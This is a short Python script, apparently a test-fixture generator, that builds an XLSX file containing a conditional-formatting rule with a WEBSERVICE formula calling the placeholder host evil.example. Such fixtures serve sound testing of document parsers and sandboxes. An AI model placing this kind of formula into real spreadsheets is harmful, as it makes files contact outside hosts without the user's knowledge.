# SPDX-License-Identifier: GPL-2.0-or-later
from recipes import emit, png
from recipes_ooxml import *


emit(xlsx(cell('A1', '42'), sheet_extra='<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://evil.example")=1</formula></cfRule>'
          '<cfRule type="expression" priority="2"><formula>A1&gt;1</formula></cfRule></conditionalFormatting>'))
